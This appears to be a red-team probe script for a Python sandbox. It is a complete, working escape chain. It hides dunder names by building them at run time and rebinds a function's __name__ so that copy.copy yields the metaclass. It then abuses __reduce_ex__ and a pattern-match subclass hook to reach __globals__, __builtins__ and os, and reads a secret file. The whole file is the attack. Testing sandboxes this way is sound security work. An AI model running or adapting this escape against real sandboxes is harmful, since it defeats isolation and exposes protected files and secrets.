# family: red team, round 10 (classmethod_reduce_name_metaclass)
# Same root as rt_012 (writable __name__ + bound-method reduce), other target: a classmethod is bound to the class,
# so copy.copy(Base.method) with __name__ "__class__" is getattr(Base, "__class__"): the metaclass, which then
# builds a class with __reduce_ex__ (copy.copy -> setattr by run-time names) and a class pattern reads __globals__.
import abc
import copy


def _d(word):
    u = "_"
    return u + u + word + u + u


def grab(cls):
    return None


grab.__name__ = _d("class")


class Base(abc.ABC):
    method = classmethod(grab)


class Probe(abc.ABC):
    __match_args__ = ("value",)


def metaclass():
    return copy.copy(Base.method)


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r10/work/secret.txt").read().strip()


print(run())
